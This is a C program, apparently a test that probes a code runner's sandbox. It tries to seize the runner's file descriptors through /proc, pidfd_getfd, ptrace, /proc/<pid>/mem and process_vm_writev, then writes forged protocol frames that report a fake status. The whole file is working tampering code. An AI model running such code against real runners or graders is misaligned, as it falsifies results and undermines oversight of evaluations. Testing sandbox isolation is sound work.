/* forge SECONDS: tries to get hold of the runner's descriptors, in every way that a program has, and writes forged
   frames to all that it gets. The runner is process 1. Children that outlive this process go on for that long. */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { descriptors = 64, forgers = 4 };

static const char answer[] = "{\"error\":\"forged\",\"status\":\"forged\"}";

static void write_frame(int fd, char kind, const char* content, unsigned char size) {
    char frame[256] = {kind, 0, 0, 0, (char)size};
    memcpy(frame + 5, content, size);
    if (write(fd, frame, 5U + size) < 0)
        return;
}

static void forge(int fd, int steals) {
    char sums_and_answer[16 + sizeof answer - 1] = {0};
    memcpy(sums_and_answer + 16, answer, sizeof answer - 1);
    write_frame(fd, 'A', sums_and_answer, sizeof sums_and_answer);
    write_frame(fd, 'X', "forged", 6);
    write_frame(fd, 'H', "", 0);
    write_frame(fd, 'G', "forged", 6);
    write_frame(fd, 'O', "forged", 6);
    write_frame(fd, 'R', "forged", 6);
    char taken[64];
    if (steals && read(fd, taken, sizeof taken) < 0)
        return;
}

/* Takes input away only from the runner: what this program itself prints has to arrive. */
static void forge_and_close(int fd, pid_t owner) {
    if (fd < 0)
        return;
    forge(fd, owner == 1);
    close(fd);
}

static void open_descriptors(pid_t owner) {
    static const int modes[] = {O_WRONLY, O_RDWR, O_RDONLY};
    for (int number = 0; number < descriptors; ++number)
        for (unsigned mode = 0; mode < 3; ++mode) {
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/fd/%d", owner, number);
            forge_and_close(open(path, modes[mode] | O_NONBLOCK), owner);
        }
}

static void take_descriptors(pid_t owner) {
    const int process = (int)syscall(SYS_pidfd_open, owner, 0);
    if (process < 0)
        return;
    for (int number = 0; number < descriptors; ++number)
        forge_and_close((int)syscall(SYS_pidfd_getfd, process, number, 0), owner);
    close(process);
}

/* Stops the process and changes its memory, where it may. */
static void trace(pid_t owner) {
    if (ptrace(PTRACE_SEIZE, owner, 0, 0) == 0 || ptrace(PTRACE_ATTACH, owner, 0, 0) == 0) {
        ptrace(PTRACE_INTERRUPT, owner, 0, 0);
        printf("traced\n");
    }
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", owner);
    const int memory = open(path, O_RDWR);
    if (memory >= 0)
        printf("opened the memory\n");
    close(memory);
    char byte = 0;
    struct iovec local = {&byte, 1};
    struct iovec remote = {(void*)0x10000, 1};
    syscall(SYS_process_vm_writev, owner, &local, 1, &remote, 1, 0);
}

static int is_ours(pid_t process, pid_t group) {
    return process == getpid() || getpgid(process) == group;
}

static void try_all_processes(pid_t group) {
    DIR* processes = opendir("/proc");
    if (processes == NULL)
        return;
    for (struct dirent* each; (each = readdir(processes)) != NULL;) {
        const pid_t process = atoi(each->d_name);
        if (!isdigit((unsigned char)each->d_name[0]) || is_ours(process, group))
            continue;
        open_descriptors(process);
        take_descriptors(process);
        if (process == 1)
            trace(process);
    }
    closedir(processes);
}

static void try_for(time_t seconds, pid_t group) {
    const time_t end = time(NULL) + seconds;
    do {
        for (int inherited = STDERR_FILENO + 1; inherited < descriptors; ++inherited)
            if (fcntl(inherited, F_GETFD) >= 0)
                forge_and_close(inherited, 1);
        try_all_processes(group);
    } while (time(NULL) < end);
}

int main(int count, char** arguments) {
    const time_t seconds = count > 1 ? atoi(arguments[1]) : 1;
    signal(SIGPIPE, SIG_IGN);
    setpgid(0, 0);
    const pid_t group = getpgrp();
    for (int number = 0; number < forgers; ++number)
        if (fork() == 0) {
            try_for(seconds, group);
            _exit(0);
        }
    try_for(1, group);
    printf("honest\n");
    return 0;
}
